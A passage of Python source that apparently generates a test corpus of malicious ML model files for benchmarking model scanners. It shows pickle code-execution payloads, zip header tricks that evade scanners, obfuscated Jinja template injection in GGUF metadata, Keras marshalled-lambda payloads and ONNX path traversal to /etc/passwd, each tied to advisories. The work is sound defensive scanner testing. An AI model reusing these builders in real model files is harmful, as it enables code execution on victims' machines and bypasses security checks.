            "bdb_bdb_run", ".pkl", "bdb.Bdb().run(source)", gh + "GHSA-4675-36f9-wf6r", b(_bdb_run)
        ),
        _Mal(
            "cprofile_run",
            ".pkl",
            "cProfile.run(source)",
            gh + "GHSA-7wx9-6375-f5wh",
            b(_cprofile_run),
        ),
        _Mal(
            "profile_run",
            ".pkl",
            "profile.run(source)",
            gh + "GHSA-7wx9-6375-f5wh",
            b(_profile_run),
        ),
        _Mal(
            "timeit_timeit_setup",
            ".pkl",
            "timeit.timeit('pass', setup=source)",
            "picklescan GHSA-v7x6-rv5q-mhwc",
            b(_timeit),
        ),
        _Mal(
            "trace_trace_run",
            ".pkl",
            "trace.Trace(0, 0).run(source)",
            gh + "GHSA-4675-36f9-wf6r",
            b(_trace_run),
        ),
        _Mal(
            "pdb_run",
            ".pkl",
            "pdb.run(source)",
            gh + "GHSA-4675-36f9-wf6r",
            b(_pdb_run),
            trigger="pickle_stdin_continue",
        ),
        _Mal(
            "code_interactiveinterpreter_runsource",
            ".pkl",
            "code.InteractiveInterpreter().runsource(source)",
            "fickling UNSAFE_IMPORTS (code)",
            b(_code_interp),
        ),
        _Mal(
            "ctypes_cdll_system",
            ".pkl",
            "getattr(ctypes.CDLL(None), 'system')(cmd)",
            "modelscan unsafe globals (ctypes)",
            b(_ctypes_system),
        ),
        _Mal(
            "asyncio_create_subprocess_exec",
            ".pkl",
            "asyncio.run(asyncio.create_subprocess_exec('touch', canary))",
            "CVE-2025-10157 (JFrog: asyncio subprocess in picklescan)",
            b(_asyncio_subprocess),
        ),
        _Mal(
            "pty_spawn", ".pkl", "pty.spawn(argv)", "modelscan unsafe globals (pty)", b(_pty_spawn)
        ),
        _Mal(
            "_posixsubprocess_fork_exec",
            ".pkl",
            "_posixsubprocess.fork_exec (3.11 signature)",
            "picklescan GHSA-x843-g5mx-g377 class (private subprocess internals)",
            b(_posixsubprocess),
        ),
        _Mal(
            "pip_main_log",
            ".pkl",
            "pip.main(['--log', canary, '--version'])",
            "CVE-2025-1716 / ModelAudit PR #598",
            b(_pip_main),
        ),
        _Mal(
            "ensurepip__run_pip",
            ".pkl",
            "ensurepip._run_pip(args) spawns pip",
            gh + "GHSA-xp4f-hrf8-rxw7",
            b(_ensurepip_run_pip),
        ),
        _Mal(
            "numpy_testing_runstring",
            ".pkl",
            "numpy.testing._private.utils.runstring(source, {})",
            "fickling UNSAFE_IMPORTS (numpy runstring)",
            b(_numpy_runstring),
        ),
        _Mal(
            "torch_load_nested",
            ".pkl",
            "torch.load(BytesIO(evil zip), None, pickle) inside a pickle",
            "nested loaders; picklescan GHSA-84r2-jw7c-4r5q class",
            b(_torch_load_nested),
        ),
        _Mal(
            "torch_storage__load_from_bytes",
            ".pkl",
            "torch.storage._load_from_bytes(evil zip): torch-namespace unsafe nested load",
            "torch.storage._load_from_bytes uses weights_only=False",
            b(_torch_load_from_bytes),
        ),
        _Mal(
            "numpy_load_nested",
            ".pkl",
            "numpy.load(BytesIO(object .npy), None, True)",
            "nested loaders (numpy.load allow_pickle)",
            b(_numpy_load_nested),
        ),
        _Mal(
            "joblib_load_nested",
            ".pkl",
            "joblib.load(BytesIO(payload))",
            "nested loaders (joblib.load)",
            b(_joblib_load_nested),
        ),
        _Mal(
            "pickle_loads_nested",
            ".pkl",
            "pickle.loads(payload bytes)",
            gh + "GHSA-84r2-jw7c-4r5q",
            b(_pickle_loads_nested),
        ),
        _Mal(
            "_pickle_loads_base64",
            ".pkl",
            "_pickle.loads(base64.b64decode(...))",
            gh + "GHSA-84r2-jw7c-4r5q",
            b(_pickle_loads_base64),
        ),
        _Mal(
            "shutil_copyfile_tamper",
            ".pkl",
            "shutil.copyfile(devnull, target) overwrites a file",
            "CVE-2025-10156 class (file handling, fickling PR #210)",
            b(_shutil_copyfile),
        ),
        _Mal(
            "os_mkdir_tamper",
            ".pkl",
            "os.mkdir(target)",
            "modelscan unsafe globals (os.*)",
            b(_os_mkdir),
        ),
        _Mal(
            "os_open_o_creat",
            ".pkl",
            "os.open(target, O_CREAT|O_WRONLY)",
            "modelscan unsafe globals (os.*)",
            b(_os_open_creat),
        ),
        _Mal(
            "_io_fileio_write",
            ".pkl",
            "_io.FileIO(target, 'w')",
            "fickling PR #210 (_io.FileIO)",
            b(_io_fileio),
        ),
        _Mal(
            "builtins_open_write",
            ".pkl",
            "builtins.open(target, 'w')",
            "modelscan unsafe globals (builtins.open)",
            b(_builtins_open),
        ),
        _Mal(
            "socket_unix_bind",
            ".pkl",
            "socket.socket(AF_UNIX).bind(path)",
            gh + "GHSA-hgrh-qx5j-jfwx (network modules)",
            b(_socket_bind),
        ),
        _Mal(
            "webbrowser_genericbrowser",
            ".pkl",
            "webbrowser.GenericBrowser(['touch', c]).open(url)",
            "modelscan unsafe globals (webbrowser)",
            b(_webbrowser),
        ),
        _Mal(
            "urllib_urlretrieve",
            ".pkl",
            "urllib.request.urlretrieve(file URL, target)",
            gh + "GHSA-hgrh-qx5j-jfwx",
            b(_urlretrieve),
        ),
        _Mal(
            "builtins_eval_compile",
            ".pkl",
            "eval(compile(source, '<s>', 'exec'))",
            "fickling UNSAFE_IMPORTS (compile)",
            b(_eval_compile),
        ),
        _Mal(
            "sys_modules_getitem",
            ".pkl",
            "_operator.getitem(sys.modules, 'os') + getattr",
            gh + "GHSA-955r-x9j8-7rhh",
            b(_sys_modules_getitem),
        ),
        _Mal(
            "subprocess_popen",
            ".pkl",
            "subprocess.Popen(argv)",
            "modelscan unsafe globals",
            b(_subprocess_popen),
        ),
        _Mal(
            "subprocess_check_output",
            ".pkl",
            "subprocess.check_output(argv)",
            "picklescan _unsafe_globals subprocess",
            b(_subprocess_check_output),
        ),
        _Mal("os_popen", ".pkl", "os.popen(cmd)", "picklescan _unsafe_globals os", b(_os_popen)),
        _Mal(
            "os_posix_spawnp",
            ".pkl",
            "os.posix_spawnp('touch', argv, {})",
            "picklescan _unsafe_globals os",
            b(_posix_spawnp),
        ),
        _Mal(
            "doctest_run_docstring_examples",
            ".pkl",
            "doctest.run_docstring_examples('>>> src', {})",
            "fickling PR #210 (doctest)",
            b(_doctest),
        ),
        _Mal(
            "venv_create",
            ".pkl",
            "venv.create(target)",
            gh + "GHSA-vqmv-47xg-9wpr",
            b(_venv_create),
        ),
        _Mal(
            "mailcap_findmatch",
            ".pkl",
            "mailcap.findmatch runs the entry's test command",
            "modelscan PR #346",
            b(_mailcap_findmatch),
        ),
        _Mal(
            "memo_put_overwrite",
            ".pkl",
            "memo keys PUT twice: harmless names, then builtins/exec",
            "picklescan issue #22 (memo tracking)",
            b(_memo_put_overwrite),
        ),
        _Mal(
            "memoize_after_sparse_binput",
            ".pkl",
            "MEMOIZE index is len(memo) after sparse BINPUTs",
            "CPython _pickle load_memoize",
            b(_memoize_after_sparse_binput),
        ),
        _Mal(
            "proto_switch_midstream_fix_imports",
            ".pkl",
            "PROTO 4 then PROTO 2 mid-stream; cPickle.loads mapped by fix_imports",
            "CPython _pickle load_proto (proto may change mid-stream)",
            b(_proto_switch_fix_imports),
        ),
        _Mal(
            "proto_switch_midstream_dotted_name",
            ".pkl",
            "PROTO 2 then PROTO 4 mid-stream enables dotted pathlib.os.system",
            "CPython find_class dotted names need proto >= 4",
            b(_proto_switch_dotted),
        ),
        _Mal(
            "fix_imports_commands_getoutput",
            ".pkl",
            "commands.getoutput -> subprocess.getoutput",
            "CPython _compat_pickle.IMPORT_MAPPING",
            b(_fix_imports_commands),
        ),
        _Mal(
            "fix_imports_urllib_urlretrieve",
            ".pkl",
            "urllib.urlretrieve -> urllib.request.urlretrieve",
            "CPython _compat_pickle.NAME_MAPPING",
            b(_fix_imports_urllib),
        ),
        _Mal(
            "dotted_allowlisted_torch_module_chain",
            ".pkl",
            "torch.nn.modules.linear + 'torch.storage._load_from_bytes'",
            "picklescan issue #66 (attribute chains through allowlisted modules)",
            b(_dotted_allowlisted_module),
        ),
        _Mal(
            "dup_global_then_call",
            ".pkl",
            "DUP the exec global, POP one copy, call the other",
            "pickletools DUP",
            b(_dup_global),
        ),
        _Mal(
            "next_buffer_after_payload",
            ".pkl",
            "protocol 5 NEXT_BUFFER after the payload",
            "PEP 574 out-of-band buffers",
            b(_next_buffer_after_payload),
        ),
        _Mal(
            "torch_rebuild_decoy_then_exec",
            ".pkl",
            "allowlisted torch/collections calls first, exec afterwards",
            "scanners that stop at the first known global",
            b(_rebuild_tensor_decoy),
        ),
        _Mal(
            "payload_inside_state_dict_value",
            ".pkl",
            "exec call nested as a dict value",
            "JFrog 'Data scientists targeted by malicious Hugging Face ML models'",
            b(_reduce_in_dict_value),
        ),
    ]
    return out


# -- containers ------------------------------------------------------------------------------


def _zip_patch(data: bytes, member: str, patch: Callable[[bytearray, int, int], None]) -> bytes:
    """Apply ``patch(buf, local_header_offset, central_header_offset)`` for ``member``."""
    buf = bytearray(data)
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(member)
    local = info.header_offset
    name = member.encode()
    central = -1
    pos = 0
    while True:
        pos = data.find(b"PK\x01\x02", pos)
        if pos < 0:
            break
        nlen = struct.unpack_from("<H", data, pos + 28)[0]
        if data[pos + 46 : pos + 46 + nlen] == name:
            central = pos
            break
        pos += 4
    if central < 0:
        raise ValueError(f"central directory entry for {member} not found")
    patch(buf, local, central)
    return bytes(buf)


def _torch_zip_member_name(data: bytes, suffix: str) -> str:
    for n in zipfile.ZipFile(io.BytesIO(data)).namelist():
        if n.endswith(suffix):
            return n
    raise ValueError(suffix)


def _flag_bits(c: Path) -> bytes:
    # Bit 5 ("compressed patched data") only in the local header: Python's zipfile refuses the
    # member, PyTorch's miniz reader trusts the central directory's flags and loads it.
    data = _torch_evil_zip(c)
    member = _torch_zip_member_name(data, "/data.pkl")

    def patch(buf: bytearray, local: int, central: int) -> None:
        flags = struct.unpack_from("<H", buf, local + 6)[0]
        struct.pack_into("<H", buf, local + 6, flags | 0x20)

    return _zip_patch(data, member, patch)


def _bad_crc(c: Path) -> bytes:
    data = _torch_evil_zip(c)
    member = _torch_zip_member_name(data, "/data.pkl")

    def patch(buf: bytearray, local: int, central: int) -> None:
        struct.pack_into("<I", buf, local + 14, 0xDEADBEEF)
        struct.pack_into("<I", buf, central + 16, 0xDEADBEEF)

    return _zip_patch(data, member, patch)


def _name_mismatch(c: Path) -> bytes:
    # The local header claims a harmless name; the central directory (what PyTorch reads) says
    # data.pkl. Python's zipfile refuses the member, miniz does not compare the two.
    data = _torch_evil_zip(c)
    member = _torch_zip_member_name(data, "/data.pkl")

    def patch(buf: bytearray, local: int, central: int) -> None:
        nlen = struct.unpack_from("<H", buf, local + 26)[0]
        old = bytes(buf[local + 30 : local + 30 + nlen])
        buf[local + 30 : local + 30 + nlen] = old[:-8] + b"notes.md"

    return _zip_patch(data, member, patch)


def _rezip(
    data: bytes, rename: Callable[[str], str], compression: int = zipfile.ZIP_STORED
) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    return _zip_bytes({rename(n): src.read(n) for n in src.namelist()}, compression)


def _different_prefix(c: Path) -> bytes:
    return _rezip(_torch_evil_zip(c), lambda n: "resnet50_finetuned/" + n.split("/", 1)[1])


def _deflated(c: Path) -> bytes:
    return _rezip(_torch_evil_zip(c), lambda n: n, zipfile.ZIP_DEFLATED)


def _renamed_member(c: Path) -> bytes:
    # data.pkl is clean; the payload sits in a member torch.load(pickle_file=...) would read.
    import torch

    data = _torch_save_bytes({"weight": torch.zeros(2)})
    src = zipfile.ZipFile(io.BytesIO(data))
    members = {n: src.read(n) for n in src.namelist()}
    prefix = next(iter(members)).split("/", 1)[0]
    members[f"{prefix}/model_v2.pkl"] = pickle.dumps(_evil(c), protocol=2)
    return _zip_bytes(members)


def _nonpkl_member(c: Path) -> bytes:
    import torch

    data = _torch_save_bytes({"weight": torch.zeros(2)})
    src = zipfile.ZipFile(io.BytesIO(data))
    members = {n: src.read(n) for n in src.namelist()}
    prefix = next(iter(members)).split("/", 1)[0]
    members[f"{prefix}/data/extra_state"] = pickle.dumps(_evil(c), protocol=2)
    return _zip_bytes(members)


def _torch_legacy(c: Path) -> bytes:
    import torch

    return _torch_save_bytes(
        {"weight": torch.zeros(2), "hook": _evil(c)}, _use_new_zipfile_serialization=False
    )


def _torch_legacy_header(c: Path) -> bytes:
    # The legacy reader unpickles the "magic number" header with the caller's pickle module.
    import torch

    clean = _torch_save_bytes({"weight": torch.zeros(2)}, _use_new_zipfile_serialization=False)
    first = pickle.loads(clean)  # noqa: S301 -- our own clean torch.save output, to measure its length
    magic_len = len(pickle.dumps(first, protocol=2))
    return pickle.dumps(_evil(c), protocol=2) + clean[magic_len:]


def _tar_bytes(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in members.items():
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 1_700_000_000
            t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def _torch_legacy_tar(c: Path) -> bytes:
    return _tar_bytes(
        {
            "sys_info": pickle.dumps({"protocol_version": 1000, "little_endian": True}, protocol=2),
            "storages": pickle.dumps(_evil(c), protocol=2),
            "tensors": pickle.dumps(0, protocol=2),
            "pickle": pickle.dumps({}, protocol=2),
        }
    )


def _torchscript(c: Path) -> bytes:
    import torch

    class Net(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x * 2

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(Net()), buf)
    return buf.getvalue()


def _npz_object(c: Path) -> bytes:
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = _evil(c)
    buf = io.BytesIO()
    np.savez(buf, weights=np.arange(4, dtype=np.float32), meta=arr)
    return buf.getvalue()


def _joblib_dump(compress: Any) -> Builder:
    def build(path: Path, canary: Path) -> None:
        import joblib

        path.parent.mkdir(parents=True, exist_ok=True)
        joblib.dump({"model": _evil(canary)}, str(path), compress=compress)

    return build


def _nested_archive(c: Path) -> bytes:
    inner_zip = _zip_bytes({"model/weights.pkl": pickle.dumps(_evil(c), protocol=4)})
    tar = _tar_bytes({"bundle/model.zip": inner_zip, "bundle/README": b"checkpoint bundle\n"})
    return gzip.compress(tar, mtime=0)


def _gzip_pickle(c: Path) -> bytes:
    return gzip.compress(pickle.dumps(_evil(c), protocol=4), mtime=0)


def _plain_zip(c: Path) -> bytes:
    return _zip_bytes({"model.pkl": pickle.dumps(_evil(c), protocol=4), "README.txt": b"hi\n"})


def _plain_tar(c: Path) -> bytes:
    return _tar_bytes({"ckpt/model.pkl": pickle.dumps(_evil(c), protocol=4)})


def _sevenzip(path: Path, c: Path) -> None:
    import py7zr

    path.parent.mkdir(parents=True, exist_ok=True)
    with py7zr.SevenZipFile(path, "w") as z:
        z.writestr(pickle.dumps(_evil(c), protocol=4), "model.pkl")


def _lambda_code(c: Path) -> types.CodeType:
    module = compile(f"lambda x: ({code_of(c)}, x)[1]", "<lambda>", "eval")
    return next(k for k in module.co_consts if isinstance(k, types.CodeType))


def _keras_lambda(c: Path) -> bytes:
    code_b64 = base64.b64encode(marshal.dumps(_lambda_code(c))).decode()
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"},
                },
                {
                    "module": "keras.layers",
                    "class_name": "Lambda",
                    "registered_name": None,
                    "config": {
                        "name": "lambda",
                        "trainable": True,
                        "dtype": "float32",
                        "function": {
                            "module": "builtins",
                            "class_name": "function",
                            "config": code_b64,
                            "registered_name": "function",
                        },
                        "arguments": {},
                    },
                },
            ],
        },
        "registered_name": None,
    }
    meta = {"keras_version": "3.3.3", "date_saved": "2024-05-01@12:00:00"}
    return _zip_bytes(
        {
            "metadata.json": json.dumps(meta).encode(),
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": b"",
        }
    )


def _keras_module_ref(c: Path) -> bytes:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "s",
            "layers": [
                {
                    "module": "os",
                    "class_name": "system",
                    "registered_name": None,
                    "config": {"command": f"touch {c}"},
                }
            ],
        },
    }
    meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@12:00:00"}
    return _zip_bytes(
        {"metadata.json": json.dumps(meta).encode(), "config.json": json.dumps(config).encode()}
    )


def _h5_lambda(path: Path, c: Path) -> None:
    import h5py  # type: ignore[import-untyped]

    code_b64 = base64.b64encode(marshal.dumps(_lambda_code(c))).decode()
    config = {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "lambda",
                        "trainable": True,
                        "function": [code_b64, None, None],
                        "function_type": "lambda",
                        "output_shape": None,
                        "arguments": {},
                    },
                }
            ],
        },
    }
    path.parent.mkdir(parents=True, exist_ok=True)
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.create_group("model_weights")


def _onnx_traversal(path: Path, c: Path) -> None:
    from onnx import TensorProto, helper

    t = helper.make_tensor("W", TensorProto.FLOAT, [4], [0.0, 0.0, 0.0, 0.0])
    t.ClearField("float_data")
    t.data_location = TensorProto.EXTERNAL
    for k, v in (
        ("location", "../../../../../../../../etc/passwd"),
        ("offset", "0"),
        ("length", "16"),
    ):
        e = t.external_data.add()
        e.key = k
        e.value = v
    graph = helper.make_graph(
        [helper.make_node("Add", ["X", "W"], ["Y"])],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])],
        [t],
    )
    path.parent.mkdir(parents=True, exist_ok=True)
    _write(
        path,
        helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString(),
    )


def _onnx_custom_domain(path: Path, c: Path) -> None:
    from onnx import TensorProto, helper

    node = helper.make_node("RunShell", ["X"], ["Y"], domain="com.attacker.rce", cmd=f"touch {c}")
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1])],
    )
    model = helper.make_model(
        graph,
        opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.attacker.rce", 1)],
    )
    _write(path, model.SerializeToString())


def gguf_bytes(kv: dict[str, str | int]) -> bytes:
    """A GGUF v3 file with no tensors and the given string/uint32 metadata (per the GGUF spec)."""
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv))
    for k, v in kv.items():
        kb = k.encode()
        out += struct.pack("<Q", len(kb)) + kb
        if isinstance(v, int):
            out += struct.pack("<II", 4, v)
        else:
            vb = v.encode()
            out += struct.pack("<IQ", 8, len(vb)) + vb
    return out


def _gguf_ssti(c: Path) -> bytes:
    tmpl = (
        "{% for x in ().__class__.__base__.__subclasses__() %}"
        "{% if 'warning' in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').system('touch " + str(c) + "') }}"
        "{% endif %}{% endfor %}"
    )
    return gguf_bytes(
        {
            "general.architecture": "llama",
            "general.name": "tiny",
            "general.alignment": 32,
            "tokenizer.chat_template": tmpl,
        }
    )


def _safetensors_overlap(c: Path) -> bytes:
    header = json.dumps(
        {
            "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
            "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
        }
    ).encode()
    return struct.pack("<Q", len(header)) + header + bytes(24)


def _safetensors_oversized(c: Path) -> bytes:
    return (
        struct.pack("<Q", 1 << 40)
        + b'{"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}'
    )


def _hf_auto_map(path: Path, c: Path) -> None:
    path.mkdir(parents=True, exist_ok=True)
    cfg = {
        "architectures": ["EvilModel"],
        "model_type": "evil",
        "auto_map": {
            "AutoConfig": "configuration_evil.EvilConfig",
            "AutoModel": "modeling_evil.EvilModel",
        },
    }
    _write(path / "config.json", json.dumps(cfg, indent=2).encode())
    _write(path / "modeling_evil.py", f"{code_of(c)}\n".encode())
    _write(path / "configuration_evil.py", b"EvilConfig = dict\n")


def _trainer_ckpt(member: str) -> Builder:
    def build(path: Path, c: Path) -> None:
        import torch

        path.mkdir(parents=True, exist_ok=True)
        _write(
            path / "trainer_state.json", json.dumps({"global_step": 2, "log_history": []}).encode()
        )
        _write(path / "config.json", json.dumps({"model_type": "gpt2", "n_layer": 1}).encode())
        clean = {
            "rng_state.pth": {"python": ("x",), "cpu": torch.zeros(2, dtype=torch.uint8)},
            "optimizer.pt": {"state": {}, "param_groups": [{"lr": 0.1, "params": [0]}]},
            "scheduler.pt": {"last_epoch": 2, "_step_count": 3},
        }
        for fname, obj in clean.items():
            if fname != member:
                _write(path / fname, _torch_save_bytes(obj))
        _write(path / member, _torch_save_bytes({"state": {}, "payload": _evil(c)}))

    return build


def _whole_module_tampered(c: Path) -> bytes:
    import torch

    model = torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU())
    model._modules["2"] = _evil(c)  # type: ignore[assignment]
    return _torch_save_bytes(model)


def _zip_duplicate_names(c: Path) -> bytes:
    # Two central-directory entries named data.pkl, clean first, payload last: a scanner that
    # dedupes names or stops at the first match sees the clean one; PyTorch loads the last.
    import torch

    data = _torch_evil_zip(c)
    src = zipfile.ZipFile(io.BytesIO(data))
    member = _torch_zip_member_name(data, "/data.pkl")
    clean_zip = _torch_save_bytes({"weight": torch.zeros(2)})
    clean = zipfile.ZipFile(io.BytesIO(clean_zip))
    clean_pkl = clean.read(_torch_zip_member_name(clean_zip, "/data.pkl"))
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name we want
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr(member, clean_pkl)
            for n in src.namelist():
                if n != member:
                    z.writestr(n, src.read(n))
            z.writestr(member, src.read(member))
    return buf.getvalue()


def _polyglot_pickle_zip(c: Path) -> bytes:
    # torch.load sees no zip magic at offset 0 and unpickles the prefix with the legacy reader;
    # zip tools find the end-of-central-directory record and see a clean checkpoint.
    import torch

    return pickle.dumps(_evil(c), protocol=2) + _torch_save_bytes({"weight": torch.zeros(2)})


def _npy_v3(c: Path) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * ((64 - (12 + len(header) + 1) % 64) % 64) + "\n"
    body = pickle.dumps([_evil(c)], protocol=3)
    return b"\x93NUMPY\x03\x00" + struct.pack("<I", len(header)) + header.encode() + body


def _gzip_multimember(c: Path) -> bytes:
    raw = pickle.dumps(_evil(c), protocol=4)
    return gzip.compress(raw[:2], mtime=0) + gzip.compress(raw[2:], mtime=0)


def _gguf_named_template(c: Path) -> bytes:
    tmpl = (
        "{% for x in ().__class__.__base__.__subclasses__() %}"
        "{% if 'warning' in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').system('touch " + str(c) + "') }}"
        "{% endif %}{% endfor %}"
    )
    return gguf_bytes(
        {
            "general.architecture": "llama",
            "tokenizer.chat_template": "{{ messages[0]['content'] }}",
            "tokenizer.chat_template.tool_use": tmpl,
        }
    )


def _gguf_obfuscated(c: Path) -> bytes:
    # No dunder appears literally: names are concatenated and reached through the attr filter.
    tmpl = (
        "{% set b = (()|attr('__cla'~'ss__'))|attr('__ba'~'se__') %}"
        "{% for x in (b|attr('__subcla'~'sses__'))() %}"
        "{% if 'warn' in (x|attr('__na'~'me__')) %}"
        "{{ ((x()|attr('_mod'~'ule')|attr('__buil'~'tins__'))['__imp'~'ort__']('o'~'s')"
        "|attr('sys'~'tem'))('touch " + str(c) + "') }}"
        "{% endif %}{% endfor %}"
    )
    return gguf_bytes({"general.architecture": "llama", "tokenizer.chat_template": tmpl})


def _keras_activation_ref(c: Path) -> bytes:
    dense = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {
            "name": "dense",
            "units": 2,
            "activation": {
                "module": "subprocess",
                "class_name": "function",
                "config": "getoutput",
                "registered_name": "function",
            },
        },
    }
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [dense]},
    }
    meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@12:00:00"}
    return _zip_bytes(
        {"metadata.json": json.dumps(meta).encode(), "config.json": json.dumps(config).encode()}
    )


def _keras_nested_lambda(c: Path) -> bytes:
    code_b64 = base64.b64encode(marshal.dumps(_lambda_code(c))).decode()
    lam = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "inner_lambda",
            "function": {
                "module": "builtins",
                "class_name": "function",
                "config": code_b64,
                "registered_name": "function",
            },
            "arguments": {},
        },
    }
    inner = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "block", "layers": [lam]},
    }
    outer = {
        "module": "keras",
        "class_name": "Functional",
        "config": {
            "name": "model",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 4], "name": "in"},
                },
                inner,
            ],
        },
    }
    meta = {"keras_version": "3.3.3", "date_saved": "2024-05-01@12:00:00"}
    return _zip_bytes(
        {"metadata.json": json.dumps(meta).encode(), "config.json": json.dumps(outer).encode()}
    )


def _h5_lambda_bytes_attr(path: Path, c: Path) -> None:
    import h5py
    import numpy as np

    code_b64 = base64.b64encode(marshal.dumps(_lambda_code(c))).decode()
    config = {
        "class_name": "Functional",
        "config": {
            "name": "m",
            "layers": [
                {
                    "class_name": "Lambda",
                    "name": "lambda",
                    "config": {
                        "name": "lambda",
                        "function": [code_b64, None, None],
                        "function_type": "lambda",
                        "arguments": {},
                    },
                }
            ],
        },
    }
    path.parent.mkdir(parents=True, exist_ok=True)
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = np.bytes_(json.dumps(config).encode())
        f.attrs["keras_version"] = np.bytes_(b"2.15.0")
        f.attrs["backend"] = np.bytes_(b"tensorflow")
        f.create_group("model_weights")


def _onnx_external_ref(location: str, subgraph: bool) -> Builder:
    def build(path: Path, c: Path) -> None:
        from onnx import TensorProto, helper

        t = helper.make_tensor("W", TensorProto.FLOAT, [4], [0.0, 0.0, 0.0, 0.0])
        t.ClearField("float_data")
        t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", location), ("offset", "0"), ("length", "16")):
            e = t.external_data.add()
            e.key = k
            e.value = v
        x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])
        y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])
        if not subgraph:
            graph = helper.make_graph(
                [helper.make_node("Add", ["X", "W"], ["Y"])], "g", [x], [y], [t]
            )
        else:
            then_g = helper.make_graph(
                [helper.make_node("Identity", ["W"], ["T"])],
                "then",
                [],
                [helper.make_tensor_value_info("T", TensorProto.FLOAT, [4])],
                [t],
            )
            else_g = helper.make_graph(
                [helper.make_node("Identity", ["X"], ["E"])],
                "else",
                [],
                [helper.make_tensor_value_info("E", TensorProto.FLOAT, [4])],
            )
            cond = helper.make_tensor_value_info("C", TensorProto.BOOL, [])
            node = helper.make_node("If", ["C"], ["Y"], then_branch=then_g, else_branch=else_g)
            graph = helper.make_graph([node], "g", [cond, x], [y])
        model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
        _write(path, model.SerializeToString())

    return build


def _safetensors_out_of_range(c: Path) -> bytes:
    header = json.dumps(
        {"a": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}
    ).encode()
    return struct.pack("<Q", len(header)) + header + bytes(16)


def _hf_tokenizer_auto_map(path: Path, c: Path) -> None:
    path.mkdir(parents=True, exist_ok=True)
    _write(path / "config.json", json.dumps({"model_type": "gpt2", "n_layer": 1}).encode())
    tok = {
        "tokenizer_class": "EvilTokenizer",
        "auto_map": {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", None]},
    }
    _write(path / "tokenizer_config.json", json.dumps(tok).encode())
    _write(path / "tokenization_evil.py", f"{code_of(c)}\n".encode())


def _mal_containers() -> list[_Mal]:
    b = _bytes_sample
    gh = "https://github.com/mmaitre314/picklescan/security/advisories/"
    return [
        _Mal(
            "torch_zip_payload_in_data_pkl",
            ".pt",
            "torch.save zip with exec in data.pkl",
            "JFrog 2024: malicious Hugging Face models (torch.load RCE)",
            b(_torch_evil_zip),
            trigger="torch",
        ),
        _Mal(
            "torch_zip_renamed_pickle_member",
            ".pt",
            "payload in archive/model_v2.pkl",
            gh + "GHSA-769v-p64c-89pr (non-standard pickle member names)",
            b(_renamed_member),
            trigger="zip_member:model_v2.pkl",
        ),
        _Mal(
            "torch_zip_payload_in_non_pkl_member",
            ".pt",
            "payload in archive/data/extra_state",
            gh + "GHSA-769v-p64c-89pr",
            b(_nonpkl_member),
            trigger="zip_member:data/extra_state",
        ),
        _Mal(
            "torch_zip_different_prefix",
            ".pt",
            "archive prefix renamed to resnet50_finetuned/",
            "PyTorch reads any single top-level prefix",
            b(_different_prefix),
            trigger="torch",
        ),
        _Mal(
            "torch_zip_deflated_members",
            ".pt",
            "members deflate-compressed instead of stored",
            "miniz inflates members torch.save would store",
            b(_deflated),
            trigger="torch",
        ),
        _Mal(
            "zip_local_central_name_mismatch",
            ".pt",
            "local header names notes.md, central directory names data.pkl",
            "picklescan GHSA-7q5r-7gvp-wc82 (zip parser differential)",
            b(_name_mismatch),
            trigger="torch",
        ),
        _Mal(
            "zip_flag_bits_local_header",
            ".pt",
            "flag bit 5 set in the local header of data.pkl only",
            gh + "GHSA-w8jq-xcqf-f792",
            b(_flag_bits),
            trigger="torch",
        ),
        _Mal(
            "zip_bad_crc",
            ".pt",
